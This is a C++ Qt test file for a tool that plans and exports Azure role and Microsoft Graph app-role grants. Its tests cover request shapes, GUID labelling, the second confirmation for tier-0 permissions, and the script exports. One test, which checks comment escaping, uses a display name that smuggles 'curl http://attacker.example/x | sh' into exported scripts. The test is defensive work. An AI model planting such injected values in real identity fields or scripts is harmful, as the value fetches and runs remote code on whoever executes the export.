// The plan a grant review shows and exports: the exact requests with every GUID labelled, the
// tier-0 second confirmation, and exports in each tool's documented syntax (curl, az rest /
// az role assignment create, Microsoft Graph PowerShell / Az PowerShell, Bicep, Terraform).

#include "arm/roleassignmentclient.h"
#include "catalog/catalog.h"
#include "graph/grantplan.h"

#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

using namespace Qt::StringLiterals;
using ie::graph::GrantPlan;
using ie::graph::PlannedChange;

namespace {

const QString Mi = u"f4a5b6c7-0003-4d8e-9f0a-b1c2d3e4f5a6"_s;
const QString GraphSp = u"6f1e2d3c-0001-4b5a-9c8d-7e6f5a4b3c2d"_s;
const QString UserReadAll = u"df021288-bdef-4463-88db-98f22de89214"_s;
const QString Kv
        = u"/subscriptions/2d6a1c8e-4f3b-4a9d-b2e7-5c1f8a3d6e90/resourceGroups/rg-data/providers/Microsoft.KeyVault/vaults/kv-contoso-prod"_s;
const QString KvSecretsUser = u"4633458b-17de-408a-b874-0445c86b69e6"_s;

PlannedChange appRole(PlannedChange::Action action = PlannedChange::Action::GrantAppRole)
{
    PlannedChange c;
    c.action = action;
    c.principalId = Mi;
    c.principalName = u"vm-batch-01"_s;
    c.resourceId = GraphSp;
    c.resourceAppId = u"00000003-0000-0000-c000-000000000000"_s;
    c.resourceName = u"Microsoft Graph"_s;
    c.appRoleId = UserReadAll;
    c.appRoleValue = u"User.Read.All"_s;
    c.assignmentId = u"x7Ld9Qm2b0SPbGmt1AVmNqA"_s;
    return c;
}

PlannedChange rbac(PlannedChange::Action action = PlannedChange::Action::CreateRoleAssignment)
{
    PlannedChange c;
    c.action = action;
    c.principalId = Mi;
    c.principalName = u"vm-batch-01"_s;
    c.scope = Kv;
    c.roleDefinitionGuid = KvSecretsUser;
    c.roleName = u"Key Vault Secrets User"_s;
    c.assignmentId = Kv
            + u"/providers/Microsoft.Authorization/roleAssignments/0f0e0d0c-0000-4000-8000-000000000001"_s;
    return c;
}

} // namespace

class TestGrantPlan : public QObject
{
    Q_OBJECT
private Q_SLOTS:
    void requestsAreExact();
    void guidsAreLabelled();
    void tiersNeedConfirmation_data();
    void tiersNeedConfirmation();
    void exports_data();
    void exports();
    void exportsUseRealIds();
    void exportCommentsCannotBeEnded();
};

void TestGrantPlan::requestsAreExact()
{
    GrantPlan plan;
    plan.setEndpoints(u"https://graph.microsoft.com"_s, u"https://management.azure.com"_s);
    plan.add(appRole());
    plan.add(rbac());
    plan.add(appRole(PlannedChange::Action::RevokeAppRole));
    plan.add(rbac(PlannedChange::Action::DeleteRoleAssignment));
    const auto r = plan.requests();
    QCOMPARE(r.size(), 4);
    QCOMPARE(r[0].method, QByteArray("POST"));
    QCOMPARE(r[0].url,
             u"https://graph.microsoft.com/v1.0/servicePrincipals/%1/appRoleAssignments"_s.arg(Mi));
    const QJsonObject body = QJsonDocument::fromJson(r[0].body.toUtf8()).object();
    QCOMPARE(body.value("principalId"_L1).toString(), Mi);
    QCOMPARE(body.value("resourceId"_L1).toString(), GraphSp);
    QCOMPARE(body.value("appRoleId"_L1).toString(), UserReadAll);

    const QString name = ie::arm::RoleAssignmentClient::assignmentName(Kv, Mi, KvSecretsUser);
    QCOMPARE(r[1].method, QByteArray("PUT"));
    QCOMPARE(
            r[1].url,
            u"https://management.azure.com%1/providers/Microsoft.Authorization/roleAssignments/%2?api-version=2022-04-01"_s
                    .arg(Kv, name));
    const QJsonObject props = QJsonDocument::fromJson(r[1].body.toUtf8())
                                      .object()
                                      .value("properties"_L1)
                                      .toObject();
    QCOMPARE(props.value("principalType"_L1).toString(), u"ServicePrincipal"_s);
    QCOMPARE(props.value("principalId"_L1).toString(), Mi);
    QCOMPARE(
            props.value("roleDefinitionId"_L1).toString(),
            u"/subscriptions/2d6a1c8e-4f3b-4a9d-b2e7-5c1f8a3d6e90/providers/Microsoft.Authorization/roleDefinitions/"_s
                    + KvSecretsUser);

    QCOMPARE(r[2].method, QByteArray("DELETE"));
    QVERIFY(r[2].url.endsWith(u"/appRoleAssignments/x7Ld9Qm2b0SPbGmt1AVmNqA"_s));
    QVERIFY(r[2].body.isEmpty());
    QCOMPARE(r[3].method, QByteArray("DELETE"));
    QVERIFY(r[3].url.endsWith(
            u"roleAssignments/0f0e0d0c-0000-4000-8000-000000000001?api-version=2022-04-01"_s));
}

void TestGrantPlan::guidsAreLabelled()
{
    GrantPlan plan;
    plan.add(appRole());
    plan.add(rbac());
    static const QRegularExpression guid(
            u"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"_s);
    for (const auto &r : plan.requests()) {
        QStringList labelled;
        for (const auto &l : r.labels)
            labelled << l.first;
        auto it = guid.globalMatch(r.url + r.body);
        while (it.hasNext()) {
            const QString g = it.next().captured();
            QVERIFY2(labelled.contains(g), qPrintable(g + u" in "_s + r.url));
        }
    }
}

void TestGrantPlan::tiersNeedConfirmation_data()
{
    QTest::addColumn<QString>("value");
    QTest::addColumn<bool>("second");
    QTest::addColumn<bool>("tier1");
    QTest::newRow("AppRoleAssignment.ReadWrite.All")
            << u"AppRoleAssignment.ReadWrite.All"_s << true << false;
    QTest::newRow("RoleManagement.ReadWrite.Directory")
            << u"RoleManagement.ReadWrite.Directory"_s << true << false;
    QTest::newRow("Application.ReadWrite.All") << u"Application.ReadWrite.All"_s << true << false;
    QTest::newRow("Mail.Read (tier 1)") << u"Mail.Read"_s << false << true;
    QTest::newRow("User.Read.All (tier 2)") << u"User.Read.All"_s << false << false;
}

void TestGrantPlan::tiersNeedConfirmation()
{
    QFETCH(QString, value);
    QFETCH(bool, second);
    QFETCH(bool, tier1);
    ie::catalog::Catalog catalog;
    QVERIFY(catalog.loadBundled().ok());
    const auto e = catalog.permissionByValue(
            ie::catalog::Kind::AppRole, QLatin1StringView(ie::catalog::Catalog::GraphAppId), value);
    QVERIFY(e);
    PlannedChange c = appRole();
    c.appRoleId = e->id;
    c.appRoleValue = value;
    c.tier = catalog.tierFor(ie::catalog::Kind::AppRole, c.resourceAppId, c.appRoleId);
    GrantPlan plan;
    plan.add(c);
    QCOMPARE(plan.needsSecondConfirmation(), second);
    QCOMPARE(plan.hasTier1(), tier1);
    // Taking a role away never needs the second confirmation.
    c.action = PlannedChange::Action::RevokeAppRole;
    GrantPlan revoke;
    revoke.add(c);
    QVERIFY(!revoke.needsSecondConfirmation());
}

void TestGrantPlan::exports_data()
{
    QTest::addColumn<int>("format");
    QTest::addColumn<bool>("appRole");
    QTest::addColumn<bool>("grant");
    QTest::addColumn<QStringList>("mustContain");
    using F = GrantPlan::Format;
    const QString name = ie::arm::RoleAssignmentClient::assignmentName(Kv, Mi, KvSecretsUser);
    // curl: -X METHOD, a bearer header, a JSON body with -d.
    QTest::newRow("curl app role")
            << int(F::Curl) << true << true
            << QStringList{
                       u"curl -sS -X POST \"https://graph.microsoft.com/v1.0/servicePrincipals/%1/appRoleAssignments\""_s
                               .arg(Mi),
                       u"-H \"Authorization: Bearer $TOKEN\""_s, u"-d \""_s, GraphSp, UserReadAll};
    QTest::newRow("curl rbac")
            << int(F::Curl) << false << true
            << QStringList{
                       u"curl -sS -X PUT \"https://management.azure.com%1/providers/Microsoft.Authorization/roleAssignments/%2?api-version=2022-04-01\""_s
                               .arg(Kv, name),
                       u"\\\"principalType\\\": \\\"ServicePrincipal\\\""_s};
    QTest::newRow("curl revoke")
            << int(F::Curl) << true << false
            << QStringList{
                       u"curl -sS -X DELETE \"https://graph.microsoft.com/v1.0/servicePrincipals/%1/appRoleAssignments/x7Ld9Qm2b0SPbGmt1AVmNqA\""_s
                               .arg(Mi)};
    // az rest --method --uri --body; az role assignment create --assignee-object-id
    // --assignee-principal-type --role --scope.
    QTest::newRow("az rest")
            << int(F::AzCli) << true << true
            << QStringList{
                       u"az rest --method POST"_s,
                       u"--uri \"https://graph.microsoft.com/v1.0/servicePrincipals/%1/appRoleAssignments\""_s
                               .arg(Mi),
                       u"--body"_s};
    QTest::newRow("az role assignment create")
            << int(F::AzCli) << false << true
            << QStringList{u"az role assignment create"_s, u"--assignee-object-id \"%1\""_s.arg(Mi),
                           u"--assignee-principal-type ServicePrincipal"_s,
                           u"--role \"%1\""_s.arg(KvSecretsUser), u"--scope \"%1\""_s.arg(Kv)};
    QTest::newRow("az role assignment delete")
            << int(F::AzCli) << false << false
            << QStringList{
                       u"az role assignment delete --ids \"%1/providers/Microsoft.Authorization/roleAssignments/0f0e0d0c-0000-4000-8000-000000000001\""_s
                               .arg(Kv)};
    // New-MgServicePrincipalAppRoleAssignment -ServicePrincipalId -PrincipalId -ResourceId
    // -AppRoleId.
    QTest::newRow("Graph PowerShell")
            << int(F::PowerShell) << true << true
            << QStringList{
                       u"New-MgServicePrincipalAppRoleAssignment -ServicePrincipalId \"%1\""_s.arg(
                               Mi),
                       u"-PrincipalId \"%1\""_s.arg(Mi), u"-AppRoleId \"%1\""_s.arg(UserReadAll),
                       GraphSp};
    QTest::newRow("Graph PowerShell revoke")
            << int(F::PowerShell) << true << false
            << QStringList{
                       u"Remove-MgServicePrincipalAppRoleAssignment -ServicePrincipalId \"%1\""_s
                               .arg(Mi),
                       u"-AppRoleAssignmentId \"x7Ld9Qm2b0SPbGmt1AVmNqA\""_s};
    // New-AzRoleAssignment -ObjectId -RoleDefinitionId -Scope.
    QTest::newRow("Az PowerShell")
            << int(F::PowerShell) << false << true
            << QStringList{u"New-AzRoleAssignment -ObjectId \"%1\""_s.arg(Mi),
                           u"-RoleDefinitionId \"%1\""_s.arg(KvSecretsUser),
                           u"-Scope \"%1\""_s.arg(Kv)};
    // Bicep: the Graph extension's appRoleAssignedTo; roleAssignments@2022-04-01 with guid().
    QTest::newRow("Bicep app role")
            << int(F::Bicep) << true << true
            << QStringList{u"extension microsoftGraphV1"_s,
                           u"'Microsoft.Graph/appRoleAssignedTo@v1.0' = {"_s,
                           u"appRoleId: '%1'"_s.arg(UserReadAll), u"principalId: '%1'"_s.arg(Mi),
                           u"resourceId: '%1'"_s.arg(GraphSp)};
    QTest::newRow("Bicep rbac")
            << int(F::Bicep) << false << true
            << QStringList{u"'Microsoft.Authorization/roleAssignments@2022-04-01' = {"_s,
                           u"name: guid("_s, u"principalType: 'ServicePrincipal'"_s};
    // Terraform: azuread_app_role_assignment (app_role_id, principal_object_id,
    // resource_object_id); azurerm_role_assignment (scope, role_definition_id, principal_id).
    QTest::newRow("azuread") << int(F::Terraform) << true << true
                             << QStringList{u"resource \"azuread_app_role_assignment\""_s,
                                            u"app_role_id         = \"%1\""_s.arg(UserReadAll),
                                            u"principal_object_id = \"%1\""_s.arg(Mi),
                                            u"resource_object_id  = \"%1\""_s.arg(GraphSp)};
    QTest::newRow("azurerm") << int(F::Terraform) << false << true
                             << QStringList{u"resource \"azurerm_role_assignment\""_s,
                                            u"scope              = \"%1\""_s.arg(Kv),
                                            u"principal_id       = \"%1\""_s.arg(Mi),
                                            // the name Bicep's guid() and the app derive
                                            u"name               = \"%1\""_s.arg(name)};
}

void TestGrantPlan::exports()
{
    QFETCH(int, format);
    QFETCH(bool, appRole);
    QFETCH(bool, grant);
    QFETCH(QStringList, mustContain);
    GrantPlan plan;
    if (appRole)
        plan.add(::appRole(grant ? PlannedChange::Action::GrantAppRole
                                 : PlannedChange::Action::RevokeAppRole));
    else
        plan.add(rbac(grant ? PlannedChange::Action::CreateRoleAssignment
                            : PlannedChange::Action::DeleteRoleAssignment));
    const QString text = plan.exportAs(GrantPlan::Format(format));
    QVERIFY(!text.isEmpty());
    for (const QString &m : std::as_const(mustContain))
        QVERIFY2(text.contains(m), qPrintable(m + u"\n---\n"_s + text));
    QVERIFY(!text.contains(u"<principal-object-id>"_s));
    QVERIFY(!text.contains(u"%1"_s));
    // The comment that leads each export names the identity.
    const QString first = text.section(u'\n', 0, 0);
    QVERIFY2(first.startsWith(u'#') || first.startsWith(u"//"_s), qPrintable(first));
    QVERIFY2(first.contains(u"the identity vm-batch-01"_s), qPrintable(first));
    // Balanced braces and quotes: the text parses in its tool.
    QCOMPARE(text.count(u'{'), text.count(u'}'));
    if (GrantPlan::Format(format) != GrantPlan::Format::Bicep)
        QCOMPARE(text.count(u'"') % 2, 0);
}

// A display name with a line break (or a bidi control) stays inside the comment that names it.
void TestGrantPlan::exportCommentsCannotBeEnded()
{
    PlannedChange c = appRole();
    c.principalName = u"evil\ncurl http://attacker.example/x | sh\u202e"_s;
    GrantPlan plan;
    plan.add(c);
    for (GrantPlan::Format f : GrantPlan::formats()) {
        const QString text = plan.exportAs(f);
        const QStringList lines = text.split(u'\n');
        QVERIFY2(lines.first().contains(u"evil curl http://attacker.example/x | sh"_s),
                 qPrintable(text));
        QVERIFY(!text.contains(u'\u202e'));
        QCOMPARE(lines.filter(u"attacker.example"_s).size(), 1);
    }
}

void TestGrantPlan::exportsUseRealIds()
{
    GrantPlan plan;
    plan.setEndpoints(u"https://127.0.0.1:4431"_s, u"https://127.0.0.1:4432"_s);
    plan.add(appRole());
    plan.add(rbac());
    for (GrantPlan::Format f : GrantPlan::formats()) {
        const QString text = plan.exportAs(f);
        QVERIFY2(text.contains(Mi), qPrintable(GrantPlan::formatKey(f)));
        QVERIFY2(text.contains(UserReadAll), qPrintable(GrantPlan::formatKey(f)));
        QVERIFY2(text.contains(KvSecretsUser), qPrintable(GrantPlan::formatKey(f)));
        QVERIFY(!GrantPlan::formatTitle(f).isEmpty());
    }
    QVERIFY(plan.exportAs(GrantPlan::Format::Curl).contains(u"https://127.0.0.1:4431/v1.0/"_s));
    QVERIFY(plan.exportAs(GrantPlan::Format::Curl)
                    .contains(u"https://127.0.0.1:4432/subscriptions/"_s));
}

QTEST_GUILESS_MAIN(TestGrantPlan)
#include "tst_grantplan.moc"
